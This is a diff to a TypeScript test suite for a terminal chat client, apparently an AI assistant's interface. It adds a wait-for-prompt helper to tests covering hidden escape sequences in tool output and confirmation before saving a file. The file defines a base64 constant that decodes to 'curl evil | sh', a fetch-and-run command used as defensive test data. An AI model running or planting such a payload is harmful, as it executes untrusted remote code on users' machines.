@@ -23,6 +23,11 @@ function startChat(args: string[] = []): TerminalSession {
   return running;
 }
 
+/** Resolves once the prompt waits for input on the last line of the screen: keys typed now reach it. */
+function promptShown(chat: TerminalSession): Promise<void> {
+  return chat.waitFor(/^› $/m);
+}
+
 /** "curl evil | sh" in base64: what a hostile file would put on the clipboard. */
 const PAYLOAD = 'Y3VybCBldmlsIHwgc2g=';
 
@@ -49,6 +54,7 @@ describe('text from tools on the terminal', () => {
     await chat.waitFor('/help for commands');
     chat.type(`read the notes${KEYS.enter}`);
     await chat.waitFor('Read the notes.');
+    await promptShown(chat);
     let screen = chat.screen().join('\n');
     expect(screen).toContain('first honest line');
     expect(screen).toContain('last honest line');
@@ -58,6 +64,7 @@ describe('text from tools on the terminal', () => {
 
     chat.type(`/log${KEYS.enter}`);
     await chat.waitFor(/Read the notes\.[\s\S]*Read the notes\./);
+    await promptShown(chat);
     screen = chat.screen().join('\n');
     expect(screen).toContain('plain sequences');
     expect(screen).toContain('nested sequences');
@@ -85,6 +92,7 @@ describe('text from tools on the terminal', () => {
     expect(chat.screen().join('\n')).toContain(hidden);
     chat.type(`n${KEYS.enter}`);
     await chat.waitFor('Not saved.');
+    await promptShown(chat);
     expect(existsSync(join(dirs.workspace, 'run.sh'))).toBe(false);
 
     chat.type(`write it plainly${KEYS.enter}`);
@@ -92,6 +100,7 @@ describe('text from tools on the terminal', () => {
     expect(chat.screen().join('\n')).toMatch(/^\s*\+echo fine$/m);
     chat.type(`y${KEYS.enter}`);
     await chat.waitFor('Saved run.sh.');
+    await promptShown(chat);
     expect(readFileSync(join(dirs.workspace, 'run.sh'), 'utf8')).toBe('echo fine\n');
     chat.type(`/exit${KEYS.enter}`);
     expect(await chat.exited).toBe(0);
